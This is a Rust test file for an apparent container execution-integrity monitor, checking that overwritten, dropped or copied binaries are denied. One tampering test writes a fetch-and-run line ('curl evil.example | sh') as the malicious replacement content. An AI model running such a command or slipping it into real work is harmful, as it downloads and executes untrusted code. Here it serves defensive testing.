//! Container Lifecycle Scenarios
//!
//! What an operator sees inside an enforced container: the image's own
//! binaries keep working, anything dropped or patched after the first exec
//! does not.

use super::fixtures::{verdicts, Exec, Rootfs, ScriptedQueue};
use execguard::config::PolicyConfig;
use execguard::container::MountEntry;
use execguard::digest::digest_path;
use execguard::monitor::{Decision, MonitorState, PermissionMonitor, Reason, Verdict};
use execguard::policy::MountPolicy;
use std::fs;
use std::path::PathBuf;

fn monitor(rootfs: &Rootfs, policy: MountPolicy) -> PermissionMonitor<ScriptedQueue> {
    PermissionMonitor::new(
        "4f1c2a9e",
        rootfs.path().to_path_buf(),
        policy,
        ScriptedQueue::new(Vec::new()),
    )
}

// ============================================================================
// FIRST EXEC
// ============================================================================

/// Test: the first exec builds the inventory and an unchanged binary runs
#[test]
fn test_first_exec_of_image_binary_allowed() {
    let rootfs = Rootfs::typical();
    let expected = digest_path(&rootfs.join("usr/bin/touch")).expect("Failed to hash");
    let mut monitor = monitor(&rootfs, MountPolicy::empty());

    let decision = monitor.handle(&rootfs.exec("usr/bin/touch"));

    assert_eq!(decision, Decision::allow(Reason::Trusted));
    let inventory = monitor.inventory().expect("Inventory should be built");
    assert_eq!(inventory.get(&rootfs.join("usr/bin/touch")), Some(&expected));
    assert_eq!(inventory.len(), 3, "Only executables are recorded");
}

/// Test: every image binary stays allowed across repeated execs
#[test]
fn test_image_binaries_repeatedly_allowed() {
    let rootfs = Rootfs::typical();
    let mut monitor = monitor(&rootfs, MountPolicy::empty());

    for _ in 0..5 {
        for rel in ["usr/bin/touch", "usr/bin/env", "usr/local/bin/entrypoint.sh"] {
            assert_eq!(monitor.handle(&rootfs.exec(rel)).verdict, Verdict::Allow, "{}", rel);
        }
    }
}

// ============================================================================
// TAMPERING
// ============================================================================

/// Test: /usr/bin/touch overwritten after the inventory is built
#[test]
fn test_overwritten_binary_denied() {
    let rootfs = Rootfs::typical();
    let mut monitor = monitor(&rootfs, MountPolicy::empty());
    monitor.handle(&rootfs.exec("usr/bin/touch"));

    rootfs.install("usr/bin/touch", b"#!/bin/sh\ncurl evil.example | sh\n", 0o755);

    assert_eq!(
        monitor.handle(&rootfs.exec("usr/bin/touch")),
        Decision::deny(Reason::ModifiedExecutable)
    );
    // Other binaries are unaffected
    assert_eq!(monitor.handle(&rootfs.exec("usr/bin/env")).verdict, Verdict::Allow);
}

/// Test: a single flipped byte deep in a large binary is caught
#[test]
fn test_single_byte_change_in_large_binary_denied() {
    let rootfs = Rootfs::typical();
    let mut blob = vec![0x90u8; 3 * 1024 * 1024];
    let path = rootfs.install("opt/vendor/lib/app/bin/server", &blob, 0o755);
    let mut monitor = monitor(&rootfs, MountPolicy::empty());
    assert_eq!(
        monitor.handle(&rootfs.exec("opt/vendor/lib/app/bin/server")).verdict,
        Verdict::Allow
    );

    let last = blob.len() - 1;
    blob[last] ^= 0x01;
    fs::write(&path, &blob).expect("Failed to write file");

    assert_eq!(
        monitor.handle(&rootfs.exec("opt/vendor/lib/app/bin/server")),
        Decision::deny(Reason::ModifiedExecutable)
    );
}

/// Test: a binary that was not executable at build time is not trusted later
#[test]
fn test_chmod_after_build_denied() {
    let rootfs = Rootfs::typical();
    let mut monitor = monitor(&rootfs, MountPolicy::empty());
    monitor.handle(&rootfs.exec("usr/bin/touch"));

    let passwd = rootfs.join("etc/passwd");
    fs::set_permissions(&passwd, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("Failed to chmod");

    assert_eq!(
        monitor.handle(&rootfs.exec("etc/passwd")),
        Decision::deny(Reason::UnknownExecutable)
    );
}

// ============================================================================
// NEW FILES
// ============================================================================

/// Test: /tmp/newfile created after the build and executed
#[test]
fn test_new_file_denied() {
    let rootfs = Rootfs::typical();
    let mut monitor = monitor(&rootfs, MountPolicy::empty());
    monitor.handle(&rootfs.exec("usr/bin/touch"));

    rootfs.install("tmp/newfile", b"\x7fELF dropped", 0o755);

    assert_eq!(
        monitor.handle(&rootfs.exec("tmp/newfile")),
        Decision::deny(Reason::UnknownExecutable)
    );
}

/// Test: a copy of a trusted binary under a new name is still unknown
#[test]
fn test_copied_binary_under_new_path_denied() {
    let rootfs = Rootfs::typical();
    let mut monitor = monitor(&rootfs, MountPolicy::empty());
    monitor.handle(&rootfs.exec("usr/bin/touch"));

    let content = fs::read(rootfs.join("usr/bin/touch")).expect("Failed to read");
    rootfs.install("tmp/touch", &content, 0o755);

    assert_eq!(
        monitor.handle(&rootfs.exec("tmp/touch")),
        Decision::deny(Reason::UnknownExecutable)
    );
}

/// Test: a new file that exists before the first exec is part of the baseline
#[test]
fn test_file_present_at_first_exec_is_trusted() {
    let rootfs = Rootfs::typical();
    rootfs.install("tmp/early", b"early", 0o700);
    let mut monitor = monitor(&rootfs, MountPolicy::empty());

    assert_eq!(monitor.handle(&rootfs.exec("tmp/early")).verdict, Verdict::Allow);
}

// ============================================================================
// FAIL-CLOSED
// ============================================================================

/// Test: an event whose path cannot be resolved is denied
#[test]
fn test_unresolvable_path_denied() {
    let rootfs = Rootfs::typical();
    let mut monitor = monitor(&rootfs, MountPolicy::empty());
    let event = Exec {
        reported: None,
        content: rootfs.join("usr/bin/touch"),
        pid: 1,
    };

    assert_eq!(monitor.handle(&event), Decision::deny(Reason::PathUnresolved));
}

/// Test: content removed before it could be hashed is denied
#[test]
fn test_unreadable_content_denied() {
    let rootfs = Rootfs::typical();
    let mut monitor = monitor(&rootfs, MountPolicy::empty());
    monitor.handle(&rootfs.exec("usr/bin/touch"));

    let event = Exec {
        reported: Some(PathBuf::from("/usr/bin/env")),
        content: rootfs.join("usr/bin/gone"),
        pid: 1,
    };

    assert_eq!(monitor.handle(&event), Decision::deny(Reason::DigestFailed));
}

// ============================================================================
// MOUNTS
// ============================================================================

/// Test: binaries under a mount destination never enter the inventory
#[test]
fn test_mounted_paths_not_inventoried() {
    let rootfs = Rootfs::typical();
    rootfs.install("data/tool", b"tool", 0o755);
    rootfs.install("etc/hosts", b"127.0.0.1 localhost\n", 0o755);
    let policy = MountPolicy::new(
        vec![
            MountEntry::bind("/var/lib/kubelet/pods/u/volumes/data", "/data"),
            MountEntry::bind("/var/lib/kubelet/pods/u/etc-hosts", "/etc/hosts"),
        ],
        &PolicyConfig::default(),
    );
    let mut monitor = monitor(&rootfs, policy);

    monitor.handle(&rootfs.exec("usr/bin/touch"));
    let inventory = monitor.inventory().expect("Inventory should be built");

    assert!(!inventory.contains(&rootfs.join("data/tool")));
    assert!(!inventory.contains(&rootfs.join("etc/hosts")));
    assert!(inventory.contains(&rootfs.join("usr/bin/touch")));
}

/// Test: the watch set for a kubelet-style mount table
#[test]
fn test_kubelet_mount_table_watch_set() {
    let rootfs = Rootfs::typical();
    let policy = MountPolicy::new(
        vec![
            MountEntry::bind("/var/lib/kubelet/pods/u/volumes/data", "/data"),
            MountEntry::bind("/var/lib/kubelet/pods/u/etc-hosts", "/etc/hosts"),
            MountEntry::bind("/var/lib/kubelet/pods/u/containers/app/x", "/dev/termination-log"),
            MountEntry::bind("/var/lib/kubelet/pods/u/volumes/token", "/var/run/secrets/kubernetes.io/serviceaccount"),
            MountEntry::bind("/run/containerd/sandboxes/s/shm", "/dev/shm"),
        ],
        &PolicyConfig::default(),
    );

    let set = policy.watch_set(rootfs.path());

    assert_eq!(
        set.directories,
        vec![
            rootfs.path().to_path_buf(),
            PathBuf::from("/var/lib/kubelet/pods/u/volumes/data"),
        ]
    );
    assert_eq!(
        set.files,
        vec![
            PathBuf::from("/var/lib/kubelet/pods/u/etc-hosts"),
            PathBuf::from("/var/lib/kubelet/pods/u/containers/app/x"),
        ]
    );
}

// ============================================================================
// EVENT LOOP
// ============================================================================

/// Test: a full run answers every event exactly once, in order
#[test]
fn test_run_answers_each_event_once() {
    let rootfs = Rootfs::typical();
    let queue = ScriptedQueue::new(vec![
        vec![rootfs.exec("usr/bin/touch"), rootfs.exec("usr/bin/env")],
        Vec::new(),
        vec![rootfs.exec("tmp/missing")],
        vec![rootfs.exec("usr/local/bin/entrypoint.sh")],
    ]);
    let responses = queue.responses();
    let mut monitor = PermissionMonitor::new("4f1c2a9e", rootfs.path().to_path_buf(), MountPolicy::empty(), queue);

    monitor.run();

    assert_eq!(monitor.state(), MonitorState::Closed);
    assert_eq!(
        verdicts(&responses),
        vec![Verdict::Allow, Verdict::Allow, Verdict::Deny, Verdict::Allow]
    );
}
